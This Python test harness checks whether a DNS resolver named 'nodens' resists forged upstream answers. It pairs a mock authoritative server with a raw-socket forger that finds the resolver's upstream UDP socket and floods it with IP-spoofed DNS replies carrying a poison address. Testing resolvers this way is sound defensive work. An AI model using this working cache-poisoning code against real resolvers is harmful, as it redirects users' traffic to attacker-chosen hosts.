"""Round 5: forged answers against nodens's upstream UDP socket.

`forge.py auth`: a small authoritative server on UDP and TCP. Every name
under its zone has one A record, REAL. Over UDP it answers a "victim" name
300 ms after the query, and not before the forger has said it is done
(at most --hold-max, 1.5 s; 0: 300 ms whatever the forger does), so the
whole flood lands while nodens waits; other names after 300 ms. Over TCP
it answers at once. It logs each UDP query
(name as sent, source port) to --log.

`forge.py attack`: per round, a fresh random victim name is asked through
nodens by a client; the forger (a RAW socket, IP_HDRINCL) finds nodens's
socket connected to the upstream in /proc/net/udp, and sends FORGED answers
from the upstream's address and port, each with a random ID (distinct
IDs), the victim name in lower case and POISON. The client's answer and the
cached answer (asked again) must be REAL.
"""

import argparse
import json
import os
import random
import select
import socket
import string
import struct
import sys
import threading
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from dnslib import Results, encode_name, metric, query, scrape, udp_ask

REAL = "192.0.2.80"
POISON = "198.51.100.66"
HOLD_MAX = 1.5


# ---- the authoritative server -------------------------------------------------

def answer_to(q, ip, ttl=3600):
    """The answer to query `q`: its ID and question exactly as asked, one A."""
    at = 12
    while q[at] != 0:
        at += 1 + q[at]
    qend = at + 5
    flags = 0x8400 | (struct.unpack(">H", q[2:4])[0] & 0x0100)
    a = q[:2] + struct.pack(">HHHHH", flags, 1, 1, 0, 0) + q[12:qend]
    return a + b"\xc0\x0c" + struct.pack(">HHIH", 1, 1, ttl, 4) + socket.inet_aton(ip)


def qname_of(q):
    at, labels = 12, []
    while q[at] != 0:
        labels.append(q[at + 1:at + 1 + q[at]].decode("latin-1"))
        at += 1 + q[at]
    return ".".join(labels)


def auth(a):
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind((a.addr, 53))
    tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    tcp.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    tcp.bind((a.addr, 53))
    tcp.listen(64)
    ctl = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    ctl.bind(("127.0.0.1", a.control_port))
    log = open(a.log, "a", buffering=1)
    pending = []  # [due, hold_until, name_lower, query, source]
    done = set()
    conns = {}
    while True:
        now = time.monotonic()
        timeout = 0.05
        r, _, _ = select.select([udp, tcp, ctl] + list(conns), [], [], timeout)
        for s in r:
            if s is udp:
                q, src = udp.recvfrom(4096)
                if len(q) < 17:
                    continue
                name = qname_of(q)
                victim = "victim" in name.lower()
                log.write(json.dumps({"t": time.time(), "proto": "udp", "name": name, "port": src[1]}) + "\n")
                pending.append([now + a.delay, now + (a.hold_max if victim else 0), name.lower(), q, src])
            elif s is ctl:
                msg = ctl.recv(512).decode()
                if msg.startswith("done "):
                    done.add(msg[5:].lower())
            elif s is tcp:
                c, _ = tcp.accept()
                conns[c] = b""
            else:
                try:
                    data = s.recv(4096)
                except OSError:
                    data = b""
                if not data:
                    s.close()
                    del conns[s]
                    continue
                buf = conns[s] + data
                while len(buf) >= 2 and len(buf) >= 2 + struct.unpack(">H", buf[:2])[0]:
                    ln = struct.unpack(">H", buf[:2])[0]
                    q, buf = buf[2:2 + ln], buf[2 + ln:]
                    log.write(json.dumps({"t": time.time(), "proto": "tcp", "name": qname_of(q)}) + "\n")
                    ans = answer_to(q, REAL)
                    s.sendall(struct.pack(">H", len(ans)) + ans)
                conns[s] = buf
        now = time.monotonic()
        keep = []
        for p in pending:
            due, hold, name, q, src = p
            if now >= due and (now >= hold or name in done or a.hold_max == 0):
                if not (a.lose_udp and "victim" in name):
                    udp.sendto(answer_to(q, REAL), src)
                log.write(json.dumps({"t": time.time(), "proto": "udp-answer", "name": name,
                                      "held": name not in done and hold > due,
                                      "lost": bool(a.lose_udp and "victim" in name)}) + "\n")
            else:
                keep.append(p)
        pending = keep


# ---- the forger ---------------------------------------------------------------

def connected_sockets(upstream):
    """{inode: (local ip, local port)} of UDP sockets connected to `upstream`."""
    ip_hex = "%08X" % struct.unpack("<I", socket.inet_aton(upstream[0]))[0]
    rem = f"{ip_hex}:{upstream[1]:04X}"
    out = {}
    with open("/proc/net/udp") as f:
        next(f)
        for line in f:
            fs = line.split()
            if fs[2] == rem:
                lip, lport = fs[1].split(":")
                out[fs[9]] = (socket.inet_ntoa(struct.pack("<I", int(lip, 16))), int(lport, 16))
    return out


def forged_payloads(name, count):
    ids = random.sample(range(65536), count) if count <= 65536 else [random.randrange(65536) for _ in range(count)]
    body = struct.pack(">HHHHH", 0x8580, 1, 1, 0, 0) + encode_name(name.lower()) + struct.pack(">HH", 1, 1)
    body += b"\xc0\x0c" + struct.pack(">HHIH", 1, 1, 3600, 4) + socket.inet_aton(POISON)
    return [struct.pack(">H", i) + body for i in ids]


def flood(raw, upstream, targets, payloads):
    """Sends every payload from `upstream` to the `targets` (ip, port), round robin."""
    src = socket.inet_aton(upstream[0])
    heads = []
    for ip, port in targets:
        ln = 20 + 8 + len(payloads[0])
        iph = struct.pack(">BBHHHBBH4s4s", 0x45, 0, ln, 0, 0, 64, 17, 0, src, socket.inet_aton(ip))
        udph = struct.pack(">HHHH", upstream[1], port, 8 + len(payloads[0]), 0)
        heads.append((iph + udph, (ip, 0)))
    sent = 0
    n = len(heads)
    for i, p in enumerate(payloads):
        h, dst = heads[i % n]
        try:
            raw.sendto(h + p, dst)
            sent += 1
        except (BlockingIOError, OSError):
            pass
    return sent


def attack(a):
    upstream = (a.upstream, 53)
    to = f"{a.upstream}:53"
    res = Results(a.results, 5, f"Forged answers, randomize_case = {a.label}")
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    raw.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    raw.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 8 << 20)
    ctl = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    server = (a.server, 53)
    poisoned = 0
    unanswered = 0
    totals = {"mismatch": 0, "case_mismatch": 0, "spoof_suspected": 0}
    randomised_rounds, first_plain = 0, None
    for rnd in range(1, a.rounds + 1):
        label = "".join(random.choice(string.ascii_lowercase) for _ in range(a.letters))
        name = f"{label}.victim.{a.zone}"
        payloads = forged_payloads(name, a.packets)
        m0 = scrape(a.metrics)
        before = connected_sockets(upstream)
        reply = {}

        def client():
            reply["r"], reply["dt"], _ = udp_ask(server, query(name, 1, 1, edns=1232), source="127.0.0.1", timeout=6)
        t = threading.Thread(target=client)
        t0 = time.monotonic()
        t.start()
        # Find the socket: a new one connected to the upstream, else every
        # one connected to it (a reused free socket).
        targets, how = [], ""
        while time.monotonic() - t0 < 0.25:
            now = connected_sockets(upstream)
            new = [p for ino, p in now.items() if ino not in before]
            if new:
                targets, how = new, "new socket"
                break
            time.sleep(0.0005)
        if not targets:
            now = connected_sockets(upstream)
            targets, how = list(now.values()), f"all {len(now)} connected (no new socket)"
        found_after = time.monotonic() - t0
        fs0 = time.monotonic()
        sent = flood(raw, upstream, targets, payloads) if targets else 0
        flood_secs = time.monotonic() - fs0
        ctl.sendto(f"done {name}".encode(), ("127.0.0.1", a.control_port))
        t.join()
        r = reply.get("r")
        first = r.a() if r else []
        again, _, _ = udp_ask(server, query(name, 1, 1, edns=1232), source="127.0.0.1", timeout=6)
        cached = again.a() if again else []
        time.sleep(0.3)
        m1 = scrape(a.metrics)
        d = {k: metric(m1, "nodens_upstream_errors_total", to=to, error=k) -
                metric(m0, "nodens_upstream_errors_total", to=to, error=k) for k in totals}
        for k in totals:
            totals[k] += d[k]
        # Which port did the upstream see this name's query come from, and
        # in which case was it asked (0x20 on: letters in random case)?
        ports, spellings = set(), []
        with open(a.auth_log) as f:
            for line in f:
                e = json.loads(line)
                if e["proto"] == "udp" and e["name"].lower() == name.lower():
                    ports.add(e["port"])
                    spellings.append(e["name"])
        mixed = any(s != s.lower() for s in spellings)
        randomised_rounds += mixed
        if not mixed and first_plain is None:
            first_plain = rnd
        aimed = bool(ports) and ports <= {port for _, port in targets}
        bad = POISON in first or POISON in cached
        poisoned += bad
        verdict = "POISONED" if bad else ("real" if first == [REAL] and cached == [REAL] else "no answer")
        if verdict == "no answer":
            unanswered += 1
        res.row(f"round {rnd:2d} {name}",
                f"asked as {spellings[0] if spellings else '?'}; "
                f"sent {sent} in {flood_secs:.2f} s to {how} (found after {found_after * 1000:.0f} ms, aimed right: {'yes' if aimed else 'NO'}); "
                f"client: {first or (r.rcode_name if r else 'no reply')}, cached: {cached or 'none'} -> {verdict}; "
                f"mismatch +{d['mismatch']:.0f}, case_mismatch +{d['case_mismatch']:.0f}, spoof_suspected +{d['spoof_suspected']:.0f}",
                (not bad) and aimed and verdict == "real", "real answer, forger aimed at the asking socket")
        if bad:
            print(f"POISONED: name {name}; reproduce with ROUNDS=5 and the log in {a.auth_log}", flush=True)
    res.row(f"poisoned rounds (randomize_case = {a.label})", f"{poisoned} of {a.rounds}", poisoned == 0, "0")
    if a.label == "true":
        switched = ""
        if a.nodens_log:
            with open(a.nodens_log) as f:
                switched = next((l.strip() for l in f if "randomisation off" in l), "")
        res.row("rounds asked in random case (0x20)",
                f"{randomised_rounds} of {a.rounds}" +
                (f"; plain from round {first_plain} on" if first_plain else "") +
                (f"; nodens log: {switched[:28]} ...{switched[switched.find('0x20'):][:70]}" if switched else ""),
                randomised_rounds == a.rounds,
                "all: forged answers must not switch 0x20 off")
    elif a.label == "false":
        res.row("rounds asked in random case (0x20)", f"{randomised_rounds} of {a.rounds}",
                randomised_rounds == 0, "0 (randomize_case = false)")
    else:
        res.row("rounds asked in random case (0x20)", f"{randomised_rounds} of {a.rounds}")
    res.row("error deltas over all rounds",
            f"mismatch +{totals['mismatch']:.0f}, case_mismatch +{totals['case_mismatch']:.0f}, spoof_suspected +{totals['spoof_suspected']:.0f}")
    sys.exit(0 if res.save() else 1)


def main():
    ap = argparse.ArgumentParser()
    sub = ap.add_subparsers(dest="cmd", required=True)
    s = sub.add_parser("auth")
    s.add_argument("--addr", default="203.0.113.53")
    s.add_argument("--delay", type=float, default=0.3)
    s.add_argument("--control-port", type=int, default=5399)
    s.add_argument("--hold-max", type=float, default=HOLD_MAX,
                   help="hold a victim's answer until the forger is done, at most this long; 0: never")
    s.add_argument("--lose-udp", action="store_true",
                   help="never send a victim's UDP answer (as if the flood had pushed it out of "
                        "nodens's socket buffer); TCP still answers")
    s.add_argument("--log", required=True)
    s = sub.add_parser("attack")
    s.add_argument("--server", default="127.0.0.1")
    s.add_argument("--upstream", default="203.0.113.53")
    s.add_argument("--zone", default="forge.test")
    s.add_argument("--metrics", default="http://127.0.0.1:9253/metrics")
    s.add_argument("--control-port", type=int, default=5399)
    s.add_argument("--auth-log", required=True)
    s.add_argument("--rounds", type=int, default=12)
    s.add_argument("--packets", type=int, default=50000)
    s.add_argument("--letters", type=int, default=15)
    s.add_argument("--label", default="true")
    s.add_argument("--nodens-log", default="")
    s.add_argument("--results", required=True)
    a = ap.parse_args()
    auth(a) if a.cmd == "auth" else attack(a)


if __name__ == "__main__":
    main()
